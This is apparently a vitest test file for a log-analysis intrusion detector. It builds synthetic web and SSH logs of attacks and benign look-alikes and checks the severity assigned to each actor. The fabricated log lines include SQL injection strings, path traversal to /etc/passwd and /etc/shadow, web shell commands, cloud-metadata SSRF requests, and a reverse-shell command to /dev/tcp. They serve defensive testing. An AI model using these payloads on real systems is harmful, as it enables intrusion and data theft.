// Whole intrusions and what looks like them, on invented logs: each actor at its level, nobody else above noise.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { readShared } from '../engine/shared-engine.test-support.ts';
import { listLogs } from '../read-logs.ts';
import { loadRules } from '../sigma/load-rules.ts';
import { detectActors } from './detect-actors.ts';
import type { Actor } from './detection.ts';

const rules = loadRules([]);

const start = Date.UTC(2026, 9, 5);
const HOUR = 3_600;
const DAY = 24 * HOUR;
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

type Line = { readonly at: number; readonly text: string };

/** One request `at` seconds after the logs begin. */
function request(at: number, client: string, line: string, status: number, size: number, agent = browser): Line {
  const time = new Date(start + at * 1000);
  const two = (value: number) => String(value).padStart(2, '0');
  const day = `${two(time.getUTCDate())}/${months[time.getUTCMonth()]}/${time.getUTCFullYear()}`;
  const clock = time.toISOString().slice(11, 19);
  return { at, text: `${client} - - [${day}:${clock} +0000] "${line} HTTP/1.1" ${status} ${size} "-" "${agent}"` };
}

/** A line of the host's syslog. */
function syslog(at: number, said: string): Line {
  const time = new Date(start + at * 1000);
  const day = String(time.getUTCDate()).padStart(2, ' ');
  return { at, text: `${months[time.getUTCMonth()]} ${day} ${time.toISOString().slice(11, 19)} web1 ${said}` };
}

/** A small site on `days` days: pages whose sizes vary a little, searches, and a list that few read. */
function ordinary(days: number, grows = (_at: number) => 1): Line[] {
  const pages = ['/', '/about.html', '/form', '/news/1', '/news/2', '/news/3', '/style.css', '/logo.png'];
  const lines: Line[] = [];
  for (let i = 0; i < days * 400; i += 1) {
    const at = Math.floor((i / 400) * DAY) + ((i * 37) % 120);
    const client = `198.51.100.${1 + ((i * 7) % 90)}`;
    const page = pages[(i * 5) % pages.length] ?? '/';
    lines.push(request(at, client, `GET ${page}`, 200, Math.round((2_000 + page.length * 300 + (i % 40)) * grows(at))));
    if (i % 10 === 0)
      lines.push(
        request(
          at + 5,
          client,
          `GET /search?q=${['tea', 'green', 'cup', 'rice'][i % 4]}`,
          200,
          Math.round((3_000 + (i % 700)) * grows(at)),
        ),
      );
    if (i % 25 === 0) lines.push(request(at + 9, client, 'POST /form', 302, 0));
    if (i % 50 === 0) lines.push(request(at + 12, client, `GET /answers?id=${i % 3}`, 200, 900));
  }
  return lines;
}

const spread = (count: number, from: number, step: number, make: (i: number, at: number) => Line): Line[] =>
  Array.from({ length: count }, (_, i) => make(i, from + i * step));

async function judge(files: Readonly<Record<string, readonly Line[]>>): Promise<readonly Actor[]> {
  const folder = mkdtempSync(join(tmpdir(), 'akashi-judgement-'));
  try {
    for (const [name, lines] of Object.entries(files)) {
      const sorted = [...lines].sort((a, b) => a.at - b.at);
      writeFileSync(join(folder, name), `${sorted.map(({ text }) => text).join('\n')}\n`);
    }
    const { store } = await readShared(listLogs([folder]).inputs, { now: new Date('2026-11-22T00:00:00Z') });
    try {
      return (await detectActors(store, rules)).actors;
    } finally {
      await store.close();
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

const levelOf = (actors: readonly Actor[], id: string) => {
  const actor = actors.find((one) => one.id === id);
  return actor ? `${actor.level} ${actor.success}` : 'not there';
};

const incidents: readonly {
  readonly says: string;
  readonly id: string;
  readonly want: string;
  readonly web?: readonly Line[];
  readonly host?: readonly Line[];
}[] = [
  {
    says: 'answers to injected SQL that the search never gave',
    id: '203.0.113.1',
    want: 'adverse shown',
    web: spread(12, DAY, 20, (i, at) =>
      request(
        at,
        '203.0.113.1',
        `GET /search?q=x%27%20union%20select%20name,mail%20from%20people%20limit%20${i},50--%20`,
        200,
        48_000 + i * 91,
      ),
    ),
  },
  {
    says: 'files of the host read through a download page that says which are there',
    id: '203.0.113.47',
    want: 'adverse possible',
    web: [
      ...spread(30, HOUR, 60, (i, at) =>
        request(at, `198.51.100.${i + 1}`, `GET /download?file=m${i}.pdf`, 200, 120_000 + i),
      ),
      request(DAY, '203.0.113.47', 'GET /download?file=../../../../etc/passwd', 200, 1_843),
      ...spread(5, DAY + 20, 5, (i, at) =>
        request(at, '203.0.113.47', `GET /download?file=${'../'.repeat(i + 1)}etc/shadow`, 404, 196),
      ),
    ],
  },
  {
    says: 'a script that was uploaded, then called',
    id: '203.0.113.2',
    want: 'adverse shown',
    web: [
      request(DAY + 60, '203.0.113.2', 'POST /upload.php', 200, 310),
      request(DAY + 95, '203.0.113.2', 'GET /uploads/2026/a8f.php?c=id', 200, 54),
      request(DAY + 120, '203.0.113.2', 'GET /uploads/2026/a8f.php?c=cat+/etc/passwd', 200, 1_840),
    ],
  },
  {
    says: 'thirty refusals at the login page, then another answer, then work as its user',
    id: '203.0.113.3',
    want: 'adverse shown',
    web: [
      ...spread(30, DAY, 4, (_, at) => request(at, '203.0.113.3', 'POST /admin/login', 200, 1_210)),
      request(DAY + 130, '203.0.113.3', 'POST /admin/login', 302, 0),
      request(DAY + 131, '203.0.113.3', 'GET /admin/', 200, 5_400),
    ],
  },
  {
    says: 'a password of the host guessed',
    id: '203.0.113.4',
    want: 'adverse shown',
    host: [
      ...spread(25, DAY, 5, (i, at) =>
        syslog(at, `sshd[${3000 + i}]: Failed password for root from 203.0.113.4 port ${40_000 + i} ssh2`),
      ),
      syslog(DAY + 140, 'sshd[3100]: Accepted password for root from 203.0.113.4 port 41000 ssh2'),
    ],
  },
  {
    says: 'the settings of the site, handed out',
    id: '203.0.113.5',
    want: 'adverse shown',
    web: [
      request(DAY, '203.0.113.5', 'GET /.env', 200, 734),
      request(DAY + 2, '203.0.113.5', 'GET /.git/config', 404, 196),
    ],
  },
  {
    says: 'every answer read out in one night',
    id: '203.0.113.6',
    want: 'notable possible',
    web: spread(400, DAY + 2 * HOUR, 3, (i, at) =>
      request(at, '203.0.113.6', `GET /answers?id=${i}`, 200, 900 + (i % 30)),
    ),
  },
  {
    says: 'people read one after the other through an interface of programs',
    id: '203.0.113.11',
    want: 'notable possible',
    web: spread(200, DAY + 3 * HOUR, 1, (i, at) =>
      request(at, '203.0.113.11', `GET /api/users/${i + 1}`, 200, 380 + ((i * 7) % 90)),
    ),
  },
  {
    says: 'new answers read out night after night are no habit',
    id: '203.0.113.10',
    want: 'notable possible',
    web: [0, 1, 2].flatMap((day) =>
      spread(100, day * DAY + 3 * HOUR, 5, (i, at) =>
        request(at, '203.0.113.10', `GET /answers?id=${1_000 + day * 100 + i}`, 200, 900 + (i % 30)),
      ),
    ),
  },
  {
    says: 'the web server looks round and dumps the database after an attack',
    id: 'www-data',
    want: 'adverse shown',
    host: [
      syslog(
        DAY + 200,
        'sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/mysqldump --all-databases',
      ),
      syslog(
        DAY + 210,
        'sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      ),
    ],
  },
  {
    says: 'a database read through its errors',
    id: '203.0.113.70',
    want: 'notable possible',
    web: spread(60, DAY + HOUR, 1, (i, at) =>
      request(
        at,
        '203.0.113.70',
        `GET /item?id=1'+and+extractvalue(1,(select+mail+limit+${10 + i},1))--`,
        500,
        600 + ((i * 37) % 190),
      ),
    ),
  },
  {
    says: 'a database that answers every attack with the same error',
    id: '203.0.113.71',
    want: 'notable none',
    web: spread(60, DAY + HOUR, 1, (i, at) =>
      request(at, '203.0.113.71', `GET /item?id=1'+and+extractvalue(1,(select+mail+limit+${10 + i},1))--`, 500, 612),
    ),
  },
  {
    says: 'inner addresses fetched through a page that nobody else uses',
    id: '203.0.113.72',
    want: 'notable possible',
    web: [
      request(DAY, '203.0.113.72', 'GET /fetch?url=http://127.0.0.1:6379/', 200, 0),
      request(DAY + 9, '203.0.113.72', 'GET /fetch?url=http://169.254.169.254/latest/meta-data/', 200, 180),
      request(DAY + 20, '203.0.113.72', 'GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/role', 200, 1_402),
    ],
  },
  {
    says: 'WordPress entered after guesses at its XML interface',
    id: '203.0.113.73',
    want: 'adverse shown',
    web: [
      ...spread(120, DAY, 1, (_, at) => request(at, '203.0.113.73', 'POST /xmlrpc.php', 200, 403)),
      request(DAY + 130, '203.0.113.73', 'POST /wp-login.php', 302, 0),
      request(DAY + 131, '203.0.113.73', 'GET /wp-admin/users.php', 200, 41_200),
    ],
  },
  {
    says: 'WordPress entered by an exploit and without a login',
    id: '203.0.113.74',
    want: 'adverse shown',
    web: [
      request(DAY, '203.0.113.74', 'POST /?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding', 200, 230),
      request(DAY + 4, '203.0.113.74', 'GET /wp-admin/', 200, 71_200),
    ],
  },
  {
    says: 'a wiki set up anew by somebody from outside',
    id: '203.0.113.75',
    want: 'notable possible',
    web: [
      request(DAY, '203.0.113.75', 'POST /setup/setupadministrator.action', 200, 14_120),
      request(DAY + 4, '203.0.113.75', 'POST /setup/finishsetup.action', 200, 23_120),
    ],
  },
  {
    says: 'a scanner that gets nothing',
    id: '203.0.113.8',
    want: 'notable none',
    web: spread(150, DAY + HOUR, 1, (i, at) =>
      request(
        at,
        '203.0.113.8',
        `GET /${['cgi-bin', 'old', 'test', 'admin', 'db'][i % 5]}/${i}.php`,
        404,
        196,
        'Mozilla/5.00 (Nikto/2.5.0)',
      ),
    ),
  },
  {
    says: 'the probing that every server gets',
    id: '203.0.113.9',
    want: 'noise none',
    web: ['/wp-login.php', '/.env', '/phpmyadmin/', '/boaform/admin'].map((path, i) =>
      request(DAY + i, '203.0.113.9', `GET ${path}`, 404, 196, 'curl/8.0'),
    ),
  },
];

it('finds each intrusion at its level, at the actor who did it', { timeout: 120_000 }, async () => {
  const actors = await judge({
    'access.log': [...ordinary(3), ...incidents.flatMap(({ web }) => web ?? [])],
    'auth.log': [
      syslog(10, 'sshd[1]: Server listening on 0.0.0.0 port 22.'),
      ...incidents.flatMap(({ host }) => host ?? []),
    ],
  });
  expect(Object.fromEntries(incidents.map(({ says, id }) => [says, levelOf(actors, id)]))).toEqual(
    Object.fromEntries(incidents.map(({ says, want }) => [says, want])),
  );
  const known = new Set(incidents.map(({ id }) => id));
  expect(actors.filter(({ id, level }) => !known.has(id) && level !== 'noise').map(({ id }) => id)).toEqual([]);
});

const deploy = 2 * DAY;
const innocents: readonly {
  readonly says: string;
  readonly id: string;
  readonly worst: 'noise' | 'notable';
  readonly web?: readonly Line[];
  readonly host?: readonly Line[];
}[] = [
  {
    says: 'a probe that is answered as everybody is since a deploy doubled the pages',
    id: '203.0.113.21',
    worst: 'noise',
    web: [request(deploy + HOUR, '203.0.113.21', 'GET /search?q=%27%20or%201=1--', 200, 6_600)],
  },
  {
    says: 'a program that sends its filters as JSON',
    id: '203.0.113.41',
    worst: 'noise',
    web: spread(30, DAY, 20, (i, at) =>
      request(
        at,
        '203.0.113.41',
        `GET /api/items?filter=${encodeURIComponent(JSON.stringify({ where: { name: { like: '%hat%' }, price: { lt: i } }, order: 'id DESC' }))}`,
        200,
        3_000 + i,
      ),
    ),
  },
  {
    says: 'a program that asks GraphQL',
    id: '203.0.113.42',
    worst: 'noise',
    web: spread(30, DAY, 20, (i, at) =>
      request(
        at,
        '203.0.113.42',
        `GET /graphql?query=${encodeURIComponent('query($id:ID!){user(id:$id){name,orders(first:10){total}}}')}&variables=${encodeURIComponent(`{"id":"${i}"}`)}`,
        200,
        700,
      ),
    ),
  },
  {
    says: 'somebody who searches for SQL, and gets more than anybody did',
    id: '203.0.113.43',
    worst: 'noise',
    web: spread(12, DAY, 30, (i, at) =>
      request(at, '203.0.113.43', `GET /search?q=select+*+from+users+where&page=${i}`, 200, 48_000 + i * 91),
    ),
  },
  {
    says: 'a smoke test that tries a quote and a tag after every deploy',
    id: '203.0.113.44',
    worst: 'noise',
    web: spread(20, HOUR, 2 * HOUR, (i, at) =>
      request(at, '203.0.113.44', `GET /search?q=${i % 2 ? '%27' : '%3Cb%3E'}`, 200, 3_010),
    ),
  },
  {
    says: 'a crawler that turns the pages of a sorted list',
    id: '203.0.113.45',
    worst: 'noise',
    web: spread(80, DAY, 20, (i, at) => request(at, '203.0.113.45', `GET /shop?order=price&page=${i}`, 200, 7_000)),
  },
  {
    says: 'a device with an old password, until it is told the new one',
    id: '203.0.113.46',
    worst: 'notable',
    web: [
      ...spread(40, DAY, 180, (_, at) => request(at, '203.0.113.46', 'POST /login', 401, 230)),
      request(DAY + 7_300, '203.0.113.46', 'POST /login', 302, 0),
    ],
  },
  {
    says: 'exploits tried on a site that answers everything with its front page',
    id: '203.0.113.80',
    worst: 'noise',
    web: ['/setup/setupadministrator.action', '/_ignition/execute-solution', '/hnap1', '/wls-wsat/x'].map((path, i) =>
      request(DAY + i, '203.0.113.80', `GET ${path}`, 200, 2_310 + path.length),
    ),
  },
  {
    says: 'the link checker of the W3C',
    id: '203.0.113.81',
    worst: 'noise',
    web: spread(120, DAY, 2, (i, at) =>
      request(at, '203.0.113.81', `HEAD /news/${i % 3}`, 200, 0, 'W3C-checklink/5.0.0 libwww-perl/6.67'),
    ),
  },
  {
    says: 'advertisements whose places nobody filled in',
    id: '203.0.113.82',
    worst: 'noise',
    web: spread(30, DAY, 9, (i, at) =>
      request(
        at,
        '203.0.113.82',
        `GET /news/${i % 3}?utm_content={{ad.name}}&utm_term=%7Bkeyword%7D&gclid=%7Bgclid%7D`,
        200,
        3_100,
      ),
    ),
  },
  {
    says: 'pictures carried in addresses',
    id: '203.0.113.83',
    worst: 'noise',
    web: spread(15, DAY, 9, (i, at) =>
      request(
        at,
        '203.0.113.83',
        `GET /render?img=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA${'Ab1+/'.repeat(40 + i)}`,
        200,
        900,
      ),
    ),
  },
  {
    says: 'a filter of mail that opens the personal link of everybody behind it',
    id: '203.0.113.84',
    worst: 'noise',
    web: spread(60, DAY, 1, (i, at) =>
      request(
        at,
        '203.0.113.84',
        `GET /survey/reply?token=${(0xabcdef0123456 + i * 7919).toString(16).padStart(32, '0')}`,
        200,
        6_120,
      ),
    ),
  },
  {
    says: 'an owner who is in, forgets the password of another account, and stays in',
    id: '203.0.113.85',
    worst: 'notable',
    web: [
      request(DAY, '203.0.113.85', 'GET /wp-admin/', 200, 71_200),
      ...spread(25, DAY + 60, 20, (_, at) => request(at, '203.0.113.85', 'POST /wp-login.php', 200, 7_100)),
      request(DAY + 900, '203.0.113.85', 'GET /wp-admin/users.php', 200, 41_200),
    ],
  },
  {
    says: 'an app that asks for its own user again and again',
    id: '203.0.113.86',
    worst: 'noise',
    web: spread(200, DAY, 60, (i, at) =>
      request(at, '203.0.113.86', `GET /api/users/71${i % 3 ? '' : '/orders'}`, 200, 380, 'ShopApp/4.2'),
    ),
  },
  {
    says: 'a monitoring robot',
    id: '203.0.113.22',
    worst: 'noise',
    web: spread(2_000, 0, 120, (_, at) => request(at, '203.0.113.22', 'GET /health', 200, 2, 'UptimeRobot/2.0')),
  },
  {
    says: 'staff who export the same list every day',
    id: '203.0.113.23',
    worst: 'noise',
    web: [0, 1, 2, 3].flatMap((day) =>
      spread(60, day * DAY + 9 * HOUR, 4, (i, at) =>
        request(at, '203.0.113.23', `GET /list/export?page=${i}`, 200, 20_000 + i),
      ),
    ),
  },
  {
    says: 'a password forgotten, then remembered',
    id: '203.0.113.24',
    worst: 'noise',
    web: [
      ...spread(4, DAY, 25, (_, at) => request(at, '203.0.113.24', 'POST /admin/login', 200, 1_210)),
      request(DAY + 110, '203.0.113.24', 'POST /admin/login', 302, 0),
    ],
    host: [
      ...spread(3, DAY, 12, (i, at) =>
        syslog(at, `sshd[${4000 + i}]: Failed password for anna from 203.0.113.24 port ${42_000 + i} ssh2`),
      ),
      syslog(DAY + 50, 'sshd[4010]: Accepted password for anna from 203.0.113.24 port 42100 ssh2'),
    ],
  },
  {
    says: 'a content network through which many people come, some of whom mistype',
    id: '203.0.113.25',
    worst: 'noise',
    web: spread(900, 0, 300, (i, at) =>
      i % 9 === 0
        ? request(at, '203.0.113.25', 'POST /login', i % 27 === 0 ? 200 : 302, i % 27 === 0 ? 1_210 : 0)
        : request(at, '203.0.113.25', `GET /news/${i % 3}`, i % 50 === 0 ? 404 : 200, i % 50 === 0 ? 196 : 3_100),
    ),
  },
  {
    says: 'a client that offers three keys of which the last fits, all day',
    id: '203.0.113.26',
    worst: 'noise',
    host: [
      ...spread(40, HOUR, 600, (i, at) =>
        syslog(
          at,
          `sshd[${5000 + i}]: Failed publickey for git from 203.0.113.26 port ${43_000 + i} ssh2: RSA SHA256:x`,
        ),
      ),
      ...spread(40, HOUR + 1, 600, (i, at) =>
        syslog(
          at,
          `sshd[${5000 + i}]: Accepted publickey for git from 203.0.113.26 port ${43_000 + i} ssh2: RSA SHA256:y`,
        ),
      ),
    ],
  },
  {
    says: 'a search robot that follows old links',
    id: '203.0.113.27',
    worst: 'noise',
    web: spread(120, DAY, 60, (i, at) =>
      request(
        at,
        '203.0.113.27',
        `GET /archive/${2000 + i}.html`,
        i % 4 === 0 ? 404 : 200,
        i % 4 === 0 ? 196 : 2_500,
        'Mozilla/5.0 (compatible; ExampleBot/1.0)',
      ),
    ),
  },
  {
    says: 'a search engine that asks for all that was there once',
    id: '66.249.66.7',
    worst: 'noise',
    web: spread(120, DAY, 900, (i, at) =>
      request(
        at,
        '66.249.66.7',
        `GET /old-catalogue/${2000 + i}.html`,
        404,
        196,
        'Mozilla/5.0 (compatible; Googlebot/2.1)',
      ),
    ),
  },
];

it('holds nothing against those who only look like it', { timeout: 120_000 }, async () => {
  const actors = await judge({
    'access.log': [...ordinary(4, (at) => (at > deploy ? 2 : 1)), ...innocents.flatMap(({ web }) => web ?? [])],
    'auth.log': [
      syslog(10, 'sshd[1]: Server listening on 0.0.0.0 port 22.'),
      ...innocents.flatMap(({ host }) => host ?? []),
    ],
  });
  const over = actors.filter(
    ({ level, id }) => level !== 'noise' && innocents.find((one) => one.id === id)?.worst !== level,
  );
  expect(
    over.map(
      (actor) =>
        `${innocents.find(({ id }) => id === actor.id)?.says ?? actor.id}: ${actor.level} ${actor.classes.join(',')} ${actor.signs.map(({ id }) => id).join(',')}`,
    ),
  ).toEqual([]);
});

it('names who was refused and never let in, and nobody who was let in', async () => {
  const authorised = (at: number, client: string, user: string, status: number): Line => {
    const { text } = request(at, client, 'GET /private/', status, 381);
    return { at, text: text.replace(' - - [', ` - ${user} [`) };
  };
  const pam = (at: number, pid: number, client: string) =>
    syslog(
      at,
      `sshd[${pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${client}  user=root`,
    );
  const actors = await judge({
    'access.log': [
      authorised(1, '192.0.2.1', '-', 401), // asked for a password and went away
      authorised(2, '192.0.2.2', '-', 401), // asked for a password and gave it
      authorised(3, '192.0.2.2', 'anna', 200),
      authorised(4, '192.0.2.3', 'admin', 401), // gave a name that was refused
      authorised(5, '192.0.2.4', '-', 200),
    ],
    'auth.log': [
      ...[1, 2, 3, 4].map((i) => pam(i * 10, 100 + i, '192.0.2.5')), // only PAM says it, again and again
      pam(50, 200, '192.0.2.6'), // a slip of the finger
      syslog(51, 'sshd[200]: Accepted password for root from 192.0.2.6 port 9 ssh2'),
      syslog(60, 'fail2ban.actions[9]: NOTICE [recidive] Ban 192.0.2.7'), // its bans are told where they were made
      syslog(61, 'fail2ban.actions[9]: NOTICE [sshd] Ban 192.0.2.8'),
    ],
    'application.log': [
      { at: 1, text: "2026-10-05T00:00:01Z Access denied for user 'root'@'localhost' (using password: YES)" },
    ],
  });
  expect(actors.map(({ kind, id, level }) => `${level} ${kind} ${id}`).sort()).toEqual([
    'noise ip 192.0.2.1',
    'noise ip 192.0.2.3',
    'noise ip 192.0.2.5',
    'noise ip 192.0.2.8',
    'noise user root',
  ]);
});

it('takes requests without a time for no burst of them', async () => {
  const lines = [
    ...Array.from({ length: 40 }, () => 'INFO:     203.0.113.60:50000 - "POST /login HTTP/1.1" 401 Unauthorized'),
    ...Array.from({ length: 60 }, (_, i) => `INFO:     203.0.113.61:50000 - "GET /answers/${i} HTTP/1.1" 200 OK`),
  ];
  const actors = await judge({ 'app.log': lines.map((text, at) => ({ at, text })) });
  // Who was never let in was refused, whenever that was.
  expect(actors.map(({ id, level }) => [id, level])).toEqual([['203.0.113.60', 'noise']]);
  expect(actors[0]).toMatchObject({ from: null, to: null });
});

it('a page asked for with many statements is an attack that may have worked, and no list that somebody read', async () => {
  const statement = (i: number) => `GET /item.php?id=-1%20UNION%20SELECT%20email,2%20FROM%20members%20LIMIT%20${i},1`;
  const lines = [
    ...spread(300, 0, 600, (i, at) =>
      request(at, `198.51.100.${1 + (i % 60)}`, `GET /item.php?id=${i % 5}`, 200, 6_000 + (i % 90)),
    ),
    ...spread(120, DAY, 1, (i, at) => request(at, '192.0.2.9', statement(i), 200, 6_010 + (i % 60))),
    ...spread(60, DAY, 2, (i, at) => request(at, '192.0.2.10', `GET /members/${i}`, 200, 4_000 + i)),
  ];
  const actors = await judge({ 'access.log': lines });
  const classesOf = (id: string) =>
    actors.find((actor) => actor.id === id)?.perClass.filter(({ success }) => success !== 'none');
  expect(classesOf('192.0.2.9')?.map((one) => one.class)).toEqual(['sqli']);
  expect(classesOf('192.0.2.10')?.map((one) => one.class)).toEqual(['bulk-read']);
});

it('failures of a source that had come in as the same user on days before are its own old password', async () => {
  const ssh = (at: number, client: string, user: string, ok: boolean) =>
    syslog(
      at,
      `sshd[${1000 + (at % 9000)}]: ${ok ? 'Accepted' : 'Failed'} password for ${user} from ${client} port 5022 ssh2`,
    );
  const daily = (client: string, user: string) => [0, 1, 2, 3].map((day) => ssh(day * DAY + 100, client, user, true));
  const tries = (client: string, users: readonly string[]) => [
    ...spread(15, 5 * DAY, 20, (i, at) => ssh(at, client, users[i % users.length] ?? '', false)),
    ssh(5 * DAY + 600, client, users[0] ?? '', true),
  ];
  const actors = await judge({
    'auth.log': [
      ...daily('198.51.100.1', 'sato'),
      ...tries('198.51.100.1', ['sato']),
      ...tries('203.0.113.9', ['sato']), // from where he never came
      ...daily('198.51.100.2', 'mori'),
      ...tries('198.51.100.2', ['mori', 'root']), // and tried another name
      ...daily('198.51.100.3', 'abe'),
      ...tries('198.51.100.3', ['ono']), // came in as somebody else before
      // An office behind one address: what one user's habit explains excuses no other.
      ...daily('198.51.100.4', 'kato'),
      ...tries('198.51.100.4', ['kato']),
      ...spread(15, 8 * DAY, 20, (_, at) => ssh(at, '198.51.100.4', 'ueda', false)),
      ssh(8 * DAY + 600, '198.51.100.4', 'ueda', true),
    ],
  });
  expect(Object.fromEntries(actors.map(({ id, level }) => [id, level]))).toEqual({
    '198.51.100.1': 'noise',
    '203.0.113.9': 'adverse',
    '198.51.100.2': 'adverse',
    '198.51.100.3': 'adverse',
    '198.51.100.4': 'adverse',
  });
});

it('a site that answers 200 to everything gives a file only where the answer is not its answer to everything', async () => {
  const asks = (client: string, at: number, paths: readonly string[], size: (path: string) => number) =>
    paths.map((path, i) => request(at + i, client, `GET ${path}`, 200, size(path)));
  const probes = ['/.env', '/.git/HEAD', '/backup.zip', '/db.sql', '/uploads/x.php'];
  const lines = (size: (path: string) => number) => [
    ...ordinary(3),
    ...asks('192.0.2.1', DAY, probes, size),
    // Who asks for one thing alone is seen by what others got.
    ...asks('192.0.2.2', DAY + HOUR, ['/.env'], size),
    ...asks('192.0.2.3', DAY + 2 * HOUR, ['/uploads/up.php'], size),
    ...asks('192.0.2.4', DAY + 3 * HOUR, ['/.env.bak'], () => 734),
  ];
  const levels = async (size: (path: string) => number) =>
    (await judge({ 'access.log': lines(size) })).map(({ id, level }) => `${id} ${level}`).sort();
  const want = ['192.0.2.1 noise', '192.0.2.2 noise', '192.0.2.3 noise', '192.0.2.4 adverse'];
  expect(await levels(() => 4_213)).toEqual(want);
  expect(await levels((path) => 4_213 + path.length)).toEqual(want);
});

it('a list of passwords tried out got in where a page for members came next', async () => {
  const members = spread(12, 0, 3_600, (i, at) => request(at, `198.51.100.${200 + i}`, 'POST /login', 302, 0)).flatMap(
    (line, i) => [line, request(line.at + 2, `198.51.100.${200 + i}`, 'GET /my/orders', 200, 5_200 + i)],
  );
  const tries = (client: string, from: number, next: string, status = 200) =>
    spread(200, from, 2, (i, at) =>
      request(at, client, 'POST /login', i === 70 || i === 150 ? 302 : 200, 3_844),
    ).flatMap((line, i) =>
      i === 70 || i === 150 ? [line, request(line.at + 1, client, `GET ${next}`, status, 5_207)] : [line],
    );
  const office = spread(200, 2 * DAY, 3, (i, at) =>
    i % 2 === 0
      ? request(at, '192.0.2.24', 'POST /login', i % 20 === 0 ? 200 : 302, 0)
      : request(at, '192.0.2.24', 'GET /my/orders', 200, 5_200),
  );
  const actors = await judge({
    'access.log': [
      ...ordinary(3),
      ...members,
      ...tries('192.0.2.21', DAY, '/my/orders'),
      ...tries('192.0.2.22', DAY + HOUR, '/about.html'), // a page that everybody is given
      ...tries('192.0.2.23', DAY + 2 * HOUR, '/my/orders', 302), // turned away from it
      ...office,
    ],
  });
  expect(Object.fromEntries(actors.map(({ id, level, success }) => [id, `${level} ${success}`]))).toEqual({
    '192.0.2.21': 'adverse shown',
    '192.0.2.22': 'notable possible',
    '192.0.2.23': 'notable possible',
    '192.0.2.24': 'notable possible', // an office of which a few mistype
  });
});

it('holds what is true of every record without a quote, and no paper in the folder of its owner', async () => {
  const asked = [
    ['192.0.2.31', '/login?user=admin%20or%20true&pass=x'],
    ['192.0.2.32', '/item?id=1%20regexp%201'],
    ['192.0.2.33', '/dl?f=C%3A%5CUsers%5Cana%5CAppData%5CRoaming%5Ca.txt'],
    ['198.51.100.41', '/quiz?q=true%20or%20false'],
    ['198.51.100.42', '/dl?f=C%3A%5CUsers%5Cana%5Cphoto.jpg'],
  ] as const;
  const lines = asked.map(([client, target], at) => request(at, client, `GET ${target}`, 404, 300));
  const actors = await judge({ 'access.log': lines });
  expect(actors.map(({ id }) => id).sort()).toEqual(['192.0.2.31', '192.0.2.32', '192.0.2.33']);
});
